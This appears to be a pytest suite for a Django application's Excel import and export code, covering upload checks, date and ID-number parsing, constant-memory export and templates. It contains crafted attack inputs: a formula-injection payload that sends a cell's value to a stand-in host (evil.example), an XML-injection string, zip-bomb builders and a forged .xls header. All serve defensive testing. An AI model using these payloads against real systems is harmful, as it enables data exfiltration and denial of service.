"""The Excel layer: uploads are checked before any reader opens them and read
in a process of their own; cells become values with messages a person can act
on; exports stream in constant memory and write stored text as text, whatever
it holds."""

import datetime as dt
import re
import struct
import subprocess
import tracemalloc
import zipfile
from decimal import Decimal
from io import BytesIO

import pytest
import xlwt
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone, translation
from openpyxl import Workbook, load_workbook

from dudao.core import excel
from dudao.core.excel import UploadError, code_cell, date_cell, read_rows, write_workbook

# --- helpers ---------------------------------------------------------------------------


def _xlsx(rows) -> bytes:
    wb = Workbook()
    ws = wb.active
    for row in rows:
        ws.append(row)
    buffer = BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _xls(rows) -> bytes:
    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Sheet1")
    date_style = xlwt.easyxf(num_format_str="yyyy-mm-dd")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value is None:
                continue
            if isinstance(value, dt.date):
                ws.write(r, c, value, date_style)
            else:
                ws.write(r, c, value)
    buffer = BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def _upload(content: bytes, name="file.xlsx"):
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def _replace_members(content: bytes, replacements: dict[str, bytes]) -> bytes:
    """The same .xlsx with some parts replaced (or added)."""
    source = zipfile.ZipFile(BytesIO(content))
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in replacements:
                target.writestr(info.filename, source.read(info.filename))
        for name, data in replacements.items():
            target.writestr(name, data)
    return out.getvalue()


SHEET_XML = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'
)


@pytest.fixture
def no_reader(monkeypatch):
    """Fails the test if the reading process is started."""
    started = []

    def run(*args, **kwargs):
        started.append(args)
        raise AssertionError("the reader was started")

    monkeypatch.setattr(excel.subprocess, "run", run)
    return started


def _refused(upload) -> str:
    with pytest.raises(UploadError) as exc, translation.override("en"):
        read_rows(upload)
    return str(exc.value)


# --- the upload as a whole ----------------------------------------------------------------


def test_an_xlsx_and_an_xls_of_the_same_rows_read_the_same():
    rows = [["姓名", "身份证号", "日期", "数"], ["张三", "410105199001011233", dt.date(2020, 3, 1), 12]]
    from_xlsx = read_rows(_upload(_xlsx(rows)))
    from_xls = read_rows(_upload(_xls(rows), name="roster.xls"))
    expected = (["姓名", "身份证号", "日期", "数"], [(2, ["张三", "410105199001011233", dt.date(2020, 3, 1), 12.0])])
    assert from_xlsx == expected
    assert from_xls == expected


def test_an_xlsx_renamed_to_xls_is_read_by_its_content():
    headers, rows = read_rows(_upload(_xlsx([["a"], ["b"]]), name="old.xls"))
    assert headers == ["a"] and rows == [(2, ["b"])]


@pytest.mark.parametrize("name", ["roster.csv", "roster.ods", "roster.xlsm", "roster"])
def test_other_file_types_are_refused_with_the_accepted_ones_named(name):
    message = _refused(_upload(_xlsx([["a"], ["b"]]), name=name))
    assert ".xlsx" in message and ".xls" in message


def test_the_refusal_of_another_file_type_is_in_chinese_for_a_chinese_user():
    with pytest.raises(UploadError) as exc, translation.override("zh-hans"):
        read_rows(_upload(b"a,b\n1,2\n", name="roster.csv"))
    assert "Excel" in str(exc.value) and "上传" in str(exc.value)


def test_blank_leading_rows_and_columns_keep_the_sheet_row_numbers():
    wb = Workbook()
    ws = wb.active
    ws["C3"], ws["D3"] = "姓名", "电话"
    ws["C4"], ws["D4"] = "张三", "1"
    ws["C6"] = "李四"
    buffer = BytesIO()
    wb.save(buffer)
    headers, rows = read_rows(_upload(buffer.getvalue()))
    assert headers == ["姓名", "电话"]
    assert rows == [(4, ["张三", "1"]), (6, ["李四", None])]


def test_a_password_protected_workbook_is_refused_with_the_reason():
    # An encrypted .xlsx is an OLE container holding an EncryptedPackage stream.
    content = excel.OLE_MAGIC + b"\x00" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\x00" * 1000
    assert "password" in _refused(_upload(content))


# --- zip bombs and other files that cost more than they look --------------------------------


def _bomb(megabytes: int) -> bytes:
    """A real .xlsx whose shared-string table is one string of `megabytes` MB
    of one character: a few hundred KB on disk."""
    base = _xlsx([["姓名"], ["张三"]])
    source = zipfile.ZipFile(BytesIO(base))
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/sharedStrings.xml":
                target.writestr(info.filename, source.read(info.filename))
        with target.open("xl/sharedStrings.xml", "w") as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            block = b"A" * (1024 * 1024)
            for _ in range(megabytes):
                part.write(block)
            part.write(b"</t></si></sst>")
    return out.getvalue()


def test_a_zip_bomb_is_refused_from_its_directory_without_being_unpacked(no_reader):
    content = _bomb(80)
    assert len(content) < 1024 * 1024  # 80 MB of text packed under 1 MB

    tracemalloc.start()
    try:
        message = _refused(_upload(content))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert "unpacks to 80" in message and "64" in message
    # The file itself is the only large thing held: nothing was unpacked.
    assert peak < len(content) + 2 * 1024 * 1024
    assert no_reader == []


def test_a_member_packed_hundreds_to_one_is_refused_even_under_the_size_limit(settings, no_reader):
    settings.DUDAO_MAX_UNZIPPED_BYTES = 1024 * 1024 * 1024
    message = _refused(_upload(_bomb(20)))
    assert "packed suspiciously" in message
    assert no_reader == []


def test_a_member_that_unpacks_to_more_than_it_declares_is_stopped_at_the_declared_size(settings, no_reader):
    # The central directory says the string table is 1,000 bytes; it inflates to 20 MB.
    settings.DUDAO_MAX_UNZIPPED_BYTES = 1024 * 1024 * 1024
    content = bytearray(_bomb(20))
    directory = zipfile.ZipFile(BytesIO(bytes(content)))
    info = directory.getinfo("xl/sharedStrings.xml")
    name = info.filename.encode()
    for signature, size_at in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        start = 0
        while True:
            start = content.find(signature, start)
            if start == -1:
                break
            name_at = start + (46 if signature == b"PK\x01\x02" else 30)
            if content[name_at : name_at + len(name)] == name:
                content[start + size_at : start + size_at + 4] = struct.pack("<I", 1000)
            start += 4

    tracemalloc.start()
    try:
        message = _refused(_upload(bytes(content)))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert "more than it declares" in message
    assert peak < len(content) + 2 * 1024 * 1024
    assert no_reader == []


def test_too_many_parts_are_refused(no_reader):
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for n in range(excel.MAX_ZIP_MEMBERS + 1):
            target.writestr(f"part{n}.xml", b"")
    assert "could not be read" in _refused(_upload(out.getvalue()))


def test_two_far_apart_cells_are_refused_before_the_reader_would_fill_the_space_between(no_reader):
    # One cell in A1, one in XFD1048576: the reader would lay out 17 billion
    # cells between them and abort the process that asked.
    sheet = SHEET_XML.format(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    )
    content = _replace_members(_xlsx([["x"]]), {"xl/worksheets/sheet1.xml": sheet.encode()})
    message = _refused(_upload(content))
    assert "row 1048576" in message and "column XFD" in message
    assert no_reader == []


def test_the_used_area_is_found_also_when_cells_do_not_say_where_they_are(settings, no_reader):
    # Without r attributes the reader places each cell after the one before.
    settings.DUDAO_MAX_IMPORT_CELLS = 100
    cells = "".join(f"<c><v>{n}</v></c>" for n in range(30))
    sheet = SHEET_XML.format(f"<row><c><v>1</v></c></row><row/><row>{cells}</row><row></row><row>{cells}</row>")
    content = _replace_members(_xlsx([["x"]]), {"xl/worksheets/sheet1.xml": sheet.encode()})
    message = _refused(_upload(content))
    assert "row 4" in message and "column AD" in message


def test_empty_formatted_cells_far_away_do_not_count(settings):
    # Excel writes <c r=".." s="1"/> for a cell that only has formatting; the reader skips it.
    settings.DUDAO_MAX_IMPORT_CELLS = 100
    sheet = SHEET_XML.format(
        '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>张三</t></is></c><c r="Z2" s="1"/></row>'
        '<row r="60000"><c r="A60000" s="1"/></row>'
    )
    content = _replace_members(_xlsx([["x"]]), {"xl/worksheets/sheet1.xml": sheet.encode()})
    assert read_rows(_upload(content)) == (["姓名"], [(2, ["张三"])])


def test_a_string_table_that_claims_billions_of_entries_is_refused(no_reader):
    # The reader reserves room for the declared count before reading one string.
    table = (
        b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2000000000" '
        b'uniqueCount="2000000000"><si><t>x</t></si></sst>'
    )
    content = _replace_members(_xlsx([["x"]]), {"xl/sharedStrings.xml": table})
    assert "2000000000 texts" in _refused(_upload(content))
    assert no_reader == []


def test_an_xls_that_makes_the_reader_ask_for_terabytes_ends_only_the_reading_process():
    # A 6 KB .xls whose DIMENSIONS record claims 4 billion rows by 65,535
    # columns: read in this process, it would abort the test run (or a web worker).
    content = bytearray(_xls([["姓名"], ["张三"]]))
    at = content.find(b"\x00\x02\x0e\x00")  # DIMENSIONS, 14 bytes
    assert at > 0
    content[at + 4 : at + 18] = struct.pack("<IIHHH", 0, 0xFFFFFFF0, 0, 0xFFFF, 0)
    message = _refused(_upload(bytes(content), name="roster.xls"))
    assert "could not be read" in message


def test_a_reader_that_takes_too_long_is_stopped(monkeypatch):
    def run(*args, **kwargs):
        raise subprocess.TimeoutExpired(args[0], excel.READER_TIMEOUT_SECONDS)

    monkeypatch.setattr(excel.subprocess, "run", run)
    assert "too long" in _refused(_upload(_xlsx([["a"], ["b"]])))


def test_too_many_cells_in_a_legacy_xls_are_refused(settings):
    settings.DUDAO_MAX_IMPORT_CELLS = 50
    rows = [[f"c{c}" for c in range(10)] for _r in range(6)]
    message = _refused(_upload(_xls(rows), name="big.xls"))
    assert "row 6" in message and "column J" in message


def test_too_many_rows_stop_the_reading(settings):
    settings.DUDAO_MAX_IMPORT_ROWS = 3
    message = _refused(_upload(_xls([["a"], ["1"], ["2"], ["3"], ["4"]]), name="r.xls"))
    assert "more than 3 rows" in message


# --- cells --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        dt.date(2020, 3, 1),
        dt.datetime(2020, 3, 1, 14, 30),
        "2020-03-01",
        "2020/3/1",
        "2020.3.1",
        "2020年3月1日",
        "2020年03月01日",
        " 2020 年 3 月 1 日 ",
        "２０２０年３月１日",
        "２０２０－０３－０１",
        "2020-03-01 00:00:00",
        "20200301",
        20200301.0,
        43891.0,  # Excel's serial number for 2020-03-01, in a cell whose date format was lost
    ],
)
def test_the_date_forms_people_type_are_read(value):
    assert date_cell(value, "入职日期") == (dt.date(2020, 3, 1), None)


@pytest.mark.parametrize("value", ["昨天", "2020-13-01", "2020-02-30", "3/1/2020", "2020", 2020.0, dt.time(8, 0)])
def test_anything_else_in_a_date_column_names_the_accepted_forms(value):
    with translation.override("en"):
        date, message = date_cell(value, "Employed since")
    assert date is None
    assert message.startswith("Employed since is not a date")
    assert "2020-03-01, 2020/3/1, 2020.3.1 or 2020年3月1日" in message


def test_an_empty_date_cell_is_no_date_and_no_error():
    assert date_cell(None, "x") == (None, None)
    assert date_cell("  ", "x") == (None, None)


def test_an_id_number_stored_as_a_number_is_refused_with_how_to_fix_it():
    with translation.override("en"):
        text, message = code_cell(4.10105199001011e17, "ID number", excel.ID_NUMBER)
    assert text == ""
    assert "4.10105199001011E+17" in message
    assert "last digits are lost" in message and "Text (文本)" in message and "type the number again" in message


def test_an_id_number_stored_as_a_number_says_so_in_chinese():
    with translation.override("zh-hans"):
        _text, message = code_cell(4.10105199001011e17, "身份证号", excel.ID_NUMBER)
    assert "数字" in message and "文本" in message


def test_an_id_number_pasted_as_scientific_text_is_refused_the_same_way():
    with translation.override("en"):
        _text, message = code_cell("4.10105E+17", "ID number", excel.ID_NUMBER)
    assert "last digits are lost" in message


def test_a_short_id_number_as_a_number_is_refused_too():
    # Even a 15-digit (first-generation) number: an ID number is text, always.
    assert code_cell(410105900101123.0, "ID number", excel.ID_NUMBER)[1]


@pytest.mark.parametrize(
    ("value", "kind", "expected"),
    [
        (13800000000.0, excel.PHONE, "13800000000"),
        (2019410100001.0, excel.CODE, "2019410100001"),
        (123456789012345, excel.CODE, "123456789012345"),
        ("0371-65432100", excel.PHONE, "0371-65432100"),
        (" B20194101 ", excel.CODE, "B20194101"),
    ],
)
def test_an_exact_number_in_a_phone_or_certificate_column_is_taken_as_its_digits(value, kind, expected):
    assert code_cell(value, "x", kind) == (expected, None)


@pytest.mark.parametrize(
    ("value", "kind", "expected"),
    [
        (37165432100.0, excel.PHONE, "leading 0"),  # 0371-65432100 typed as a number
        (1234567890123456.0, excel.CODE, "loses digits"),
        (12.5, excel.CODE, "loses digits"),
    ],
)
def test_a_number_that_lost_digits_in_a_text_column_is_refused(value, kind, expected):
    with translation.override("en"):
        text, message = code_cell(value, "Phone", kind)
    assert text == "" and expected in message and "Text (文本)" in message


# --- writing ------------------------------------------------------------------------------


def _read_back(content: bytes):
    return load_workbook(BytesIO(content))


# Where an export's table starts (1-based, as openpyxl counts): the title and
# the issuing row above the header, 序号 in column A before the data.
HEADER = excel.TITLE_ROWS + 1
FIRST = HEADER + 1


EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"点击")'


def test_a_formula_like_name_is_written_as_text_and_reads_back_intact():
    columns = [("姓名", lambda o: o)]
    content = excel.workbook_bytes("人员", columns, [EVIL, "+1", "-1", "@SUM(A1)", "=1+1"])
    ws = _read_back(content).worksheets[0]
    cells = [ws.cell(row=r, column=2) for r in range(FIRST, FIRST + 5)]
    assert [c.value for c in cells] == [EVIL, "+1", "-1", "@SUM(A1)", "=1+1"]
    assert {c.data_type for c in cells} == {"s"}
    assert all(c.quotePrefix for c in cells)  # stays text even when edited in Excel
    sheet_xml = zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_text_shaped_like_rich_text_markup_cannot_inject_cells():
    # XlsxWriter writes a string that starts with <r> and ends with </r> into
    # the sheet's XML unescaped; a name like this one would add a formula cell.
    injected = '<r><t>x</t></r></is></c><c r="B2" t="str"><f>HYPERLINK("http://evil.example")</f><v>1</v></c><c><is><r><t>y</t></r>'
    content = excel.workbook_bytes("人员", [("姓名", lambda o: o)], [injected])
    ws = _read_back(content).worksheets[0]
    assert ws.cell(FIRST, 2).value == injected and ws.cell(FIRST, 2).data_type == "s"
    assert ws.cell(FIRST, 3).value is None
    assert b"<f>" not in zipfile.ZipFile(BytesIO(content)).read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("character", [chr(c) for c in [*range(0, 9), 11, 12, *range(14, 32)]] + ["\ufffe", "\uffff"])
def test_characters_xml_cannot_hold_are_removed_from_the_export(character):
    content = excel.workbook_bytes(f"人{character}员", [(f"姓{character}名", lambda o: o)], [f"张{character}三"])
    ws = _read_back(content).worksheets[0]
    assert ws.title == "人员"
    assert (ws.cell(HEADER, 2).value, ws.cell(FIRST, 2).value) == ("姓名", "张三")
    assert ws["A1"].value == "人员"


def test_tab_newline_and_carriage_return_stay():
    content = excel.workbook_bytes("x", [("a", lambda o: o)], ["一\t二\n三"])
    assert _read_back(content).worksheets[0].cell(FIRST, 2).value == "一\t二\n三"


def test_values_are_written_as_their_kind():
    aware = dt.datetime(2024, 1, 31, 18, 30, tzinfo=dt.UTC)  # 02:30 the next day in Shanghai
    columns = [
        ("date", lambda o: dt.date(2024, 2, 29)),
        ("datetime", lambda o: aware),
        ("int", lambda o: 42),
        ("decimal", lambda o: Decimal("88.5")),
        ("none", lambda o: None),
        ("bool", lambda o: True),
        ("long id", lambda o: 410105199001011233),
        ("old", lambda o: dt.date(1899, 1, 1)),
    ]
    ws = _read_back(excel.workbook_bytes("x", columns, [1])).worksheets[0]
    row = list(ws[FIRST])[1:]
    assert row[0].value == dt.datetime(2024, 2, 29) and row[0].is_date and row[0].number_format == "yyyy-mm-dd"
    assert row[1].value == dt.datetime(2024, 2, 1, 2, 30) and row[1].number_format == "yyyy-mm-dd hh:mm:ss"
    assert (row[2].value, row[2].data_type) == (42, "n")
    assert (row[3].value, row[3].data_type) == (88.5, "n")
    assert row[4].value is None
    assert row[5].value is True
    assert (row[6].value, row[6].data_type) == ("410105199001011233", "s")  # not rounded to 15 digits
    assert row[7].value == "1899-01-01"
    assert ws.freeze_panes == f"A{FIRST}" and ws.cell(HEADER, 2).font.b


def test_a_full_sheet_continues_on_a_second_one_with_the_header_again(monkeypatch):
    monkeypatch.setattr(excel, "MAX_SHEET_ROWS", excel.TITLE_ROWS + 4)  # title rows, a header and three rows
    progress = []
    buffer = BytesIO()
    count = write_workbook(
        buffer, "人员名单", [("编号", lambda o: o)], range(10), progress=progress.append, progress_every=4
    )
    assert count == 10 and progress == [4, 8, 10]
    wb = _read_back(buffer.getvalue())
    assert wb.sheetnames == ["人员名单", "人员名单 (2)", "人员名单 (3)", "人员名单 (4)"]
    values = []
    serials = []
    for ws in wb.worksheets:
        rows = list(ws.iter_rows(values_only=True))[excel.TITLE_ROWS :]
        assert rows[0] == ("序号", "编号")
        serials += [r[0] for r in rows[1:]]
        values += [r[1] for r in rows[1:]]
    assert values == list(range(10))
    assert serials == list(range(1, 11))  # 序号 runs on across sheets


def test_a_long_title_leaves_room_for_the_sheet_number(monkeypatch):
    monkeypatch.setattr(excel, "MAX_SHEET_ROWS", excel.TITLE_ROWS + 2)
    title = "很长的标题" * 10 + "[1]/?"
    wb = _read_back(excel.workbook_bytes(title, [("a", lambda o: o)], range(2)))
    assert [len(n) <= 31 for n in wb.sheetnames] == [True, True]
    assert wb.sheetnames[1].endswith(" (2)")


def test_an_empty_export_is_a_workbook_with_the_header():
    ws = _read_back(excel.workbook_bytes("空", [("姓名", lambda o: o)], [])).worksheets[0]
    assert list(ws.iter_rows(values_only=True))[excel.TITLE_ROWS :] == [("序号", "姓名")]


def test_an_export_opens_with_its_title_the_issuing_unit_and_the_date_then_a_frozen_numbered_header():
    columns = [("姓名", lambda o: o[0]), ("入库日期", lambda o: o[1]), ("说明", lambda o: o[2])]
    rows = [("张三", dt.date(2026, 11, 30), "长" * 200), ("李四", dt.date(2025, 1, 2), "")]
    with translation.override("zh-hans"):
        content = excel.workbook_bytes("人才库名单", columns, rows, issuer="郑州市民政局")
    ws = _read_back(content).worksheets[0]
    assert ws["A1"].value == "人才库名单" and ws["A1"].font.b
    assert ws["A2"].value.startswith("制表单位：郑州市民政局") and "导出日期：" in ws["A2"].value
    assert {str(r) for r in ws.merged_cells.ranges} >= {"A1:D1", "A2:D2"}
    assert [c.value for c in ws[HEADER]] == ["序号", "姓名", "入库日期", "说明"]
    assert ws.freeze_panes == f"A{FIRST}"
    assert ws.print_title_rows == f"${HEADER}:${HEADER}"
    assert [ws.cell(r, 1).value for r in (FIRST, FIRST + 1)] == [1, 2]
    date_cell = ws.cell(FIRST, 3)
    assert date_cell.is_date and date_cell.value == dt.datetime(2026, 11, 30)
    widths = {letter: ws.column_dimensions[letter].width for letter in "ABCD"}
    assert widths["A"] < widths["B"] < widths["C"]  # 序号 narrow, a date fits
    assert widths["D"] <= excel.MAX_COLUMN_WIDTH + 1  # a long text is capped, not 400 wide
    assert ws.cell(FIRST, 4).alignment.wrap_text  # and wraps within it


def test_the_issuing_unit_comes_from_the_user_and_the_date_is_today(world):
    with translation.override("zh-hans"):
        ws = _read_back(excel.workbook_bytes("名单", [("a", lambda o: o)], [1], user=world.district_admin)).worksheets[
            0
        ]
        today = excel.date_format(timezone.localdate(), "DATE_FORMAT")
    assert ws["A2"].value == f"制表单位：金水区民政局\u3000\u3000导出日期：{today}"


@pytest.mark.parametrize(
    ("persona", "unit"),
    [("city_admin", "郑州市民政局"), ("agency_admin", "金水阳光社工中心"), ("hrss", "郑州市人力资源和社会保障局")],
)
def test_each_role_issues_as_its_unit(world, persona, unit):
    from dudao.accounts.units import unit_name

    with translation.override("zh-hans"):
        assert unit_name(world.persona(persona)) == unit


def test_twenty_thousand_rows_are_written_in_constant_memory(monkeypatch, tmp_path):
    """The writer keeps one row in memory and writes strings inline, so its
    peak does not grow with rows or with the number of different strings.
    Measured on this code: about 0.7 MB for 2,000, 20,000 and 100,000 rows
    of unique names alike (openpyxl's write-only mode, by comparison, keeps a
    shared-strings table and grows with every new string). The bound of 3 MB
    leaves room for the interpreter's own variation, and is far below the
    ~10 MB the 20,000 unique names and ID numbers take as Python strings."""
    options = []
    real = excel.xlsxwriter.Workbook

    def spy(target, opts=None):
        options.append(dict(opts or {}))
        return real(target, opts)

    monkeypatch.setattr(excel.xlsxwriter, "Workbook", spy)
    columns = [
        ("姓名", lambda i: f"姓名{i}-{i * 7919:x}"),
        ("身份证号", lambda i: f"4101051990{i:08d}"),
        ("入职", lambda i: dt.date(2020, 1, 1) + dt.timedelta(days=i % 1000)),
        ("编号", lambda i: i),
    ]
    path = tmp_path / "big.xlsx"
    tracemalloc.start()
    try:
        count = write_workbook(str(path), "人员", columns, range(20_000))
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert count == 20_000
    assert options and options[0]["constant_memory"] is True
    assert peak < 3 * 1024 * 1024, peak
    wb = load_workbook(path, read_only=True)
    rows = list(wb.worksheets[0].iter_rows(values_only=True))
    assert len(rows) == excel.TITLE_ROWS + 20_001 and rows[-1][:2] == (20_000, f"姓名19999-{19999 * 7919:x}")


# --- templates ------------------------------------------------------------------------------


def test_a_template_marks_text_columns_offers_lists_and_keeps_them_on_a_hidden_sheet(settings):
    long_list = [f"选项{n}" for n in range(80)]  # longer than a list written into the rule may be
    content = excel.template_bytes(
        "模板",
        ["姓名*", "身份证号*", "学历", "领域", "日期"],
        ["张三", "410105199001011233", "选项1", "选项2", dt.date(2020, 3, 1)],
        ["说明"],
        text_columns=[1],
        date_columns=[4],
        choices={2: excel.Choice(long_list), 3: excel.Choice(long_list, strict=False, prompt="可多选")},
    )
    wb = _read_back(content)
    assert len(wb.sheetnames) == 3 and wb.sheetnames[0] == "模板" and wb.sheetnames[2] == "lists"
    ws, lists = wb.worksheets[0], wb["lists"]
    assert lists.sheet_state == "hidden"
    assert ws.freeze_panes == "A2" and ws["A1"].font.b
    assert ws.column_dimensions["B"].number_format == "@"
    assert ws["B2"].number_format == "@" and ws["B2"].value == "410105199001011233"
    assert ws.column_dimensions["E"].number_format == "yyyy-mm-dd"
    rules = {str(r.sqref): r for r in ws.data_validations.dataValidation}
    last = settings.DUDAO_MAX_IMPORT_ROWS + 1
    education, domains = rules[f"C2:C{last}"], rules[f"D2:D{last}"]
    assert education.type == "list" and education.formula1 == "lists!$A$1:$A$80" and education.showErrorMessage
    assert domains.formula1 == "lists!$B$1:$B$80" and not domains.showErrorMessage and domains.prompt == "可多选"
    assert [lists.cell(row=r, column=1).value for r in range(1, 81)] == long_list
    assert 12 <= ws.column_dimensions["B"].width <= 40


def test_every_sheet_name_is_legal():
    assert excel.sheet_name("a/b:c*?[d]") == "a b c   d"
    assert excel.sheet_name("") == "Sheet"
    assert len(excel.sheet_name("x" * 40, 12)) == 31


def test_the_reader_script_imports_nothing_from_the_project():
    source = excel.CHILD_SCRIPT.read_text()
    assert not re.search(r"^\s*(from|import) (django|dudao)", source, re.M)


# --- every export page, with stored text no workbook can hold -----------------------------------


@pytest.fixture
def demo(reference):
    from dudao.demo import data, selection, training

    data.load()
    selection.load(data.PASSWORD)
    training.load()


def _poison():
    """Append a control character to every stored name and title the exports
    show (as an API client could, issue 8 item 2) and make one person's name a
    formula."""
    from django.db.models import F, Value
    from django.db.models.functions import Concat

    from dudao.accounts.models import User
    from dudao.core.models import AuditEntry
    from dudao.directory.models import Jurisdiction, Organization, Person
    from dudao.selection.models import Round
    from dudao.training.models import Activity, Cohort, Programme

    bad = Value("\u0001")
    for model, field in [
        (Person, "name"),
        (Organization, "name"),
        (Jurisdiction, "name"),
        (Round, "title"),
        (Programme, "name"),
        (Cohort, "name"),
        (Activity, "title"),
        (AuditEntry, "object_repr"),
        (User, "first_name"),
        (User, "last_name"),
    ]:
        model.objects.update(**{field: Concat(F(field), bad)})
    person = Person.objects.order_by("pk").first()
    Person.objects.filter(pk=person.pk).update(name=EVIL)


def _export_urls():
    from django.urls import reverse

    from dudao.selection.models import Round
    from dudao.training.models import Cohort

    round_ = Round.objects.order_by("pk").first()
    cohort = Cohort.objects.order_by("pk").first()
    lists = [
        "directory:organization_list",
        "directory:person_list",
        "accounts:user_list",
        "core:audit_list",
        "training:programme_list",
        "training:activity_list",
        "pools:entry_list",
        "selection:round_list",
        "selection:nomination_list",
        "selection:queue",
        "selection:trainee_list",
        "policy:parameter_list",
    ]
    urls = [(f"{reverse(name)}?export=xlsx", name) for name in lists]
    urls.append((reverse("selection:round_summary_export", args=[round_.pk]), "round summary"))
    urls.append((reverse("training:results_export", args=[cohort.pk]), "cohort results"))
    return urls


def test_every_export_page_downloads_a_readable_workbook_whatever_the_stored_text(demo, client):
    from dudao.accounts.models import User

    _poison()
    client.force_login(User.objects.get(username="city_admin"))
    found_evil = False
    for url, name in _export_urls():
        response = client.get(url)
        assert response.status_code == 200, name
        assert response["Content-Type"] == excel.XLSX_TYPE, name
        wb = load_workbook(BytesIO(response.content))
        rows = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
        assert len(list(wb.worksheets[0].iter_rows())) > 1, f"{name} exported no rows"
        for cell in rows:
            if isinstance(cell.value, str):
                assert not excel.ILLEGAL_CHARACTERS.search(cell.value), (name, cell.coordinate)
                if cell.value == EVIL:
                    found_evil = True
                    assert cell.data_type == "s", name
        assert any(isinstance(c.value, str) and "\u0001" not in c.value and c.value for c in rows), name
    assert found_evil
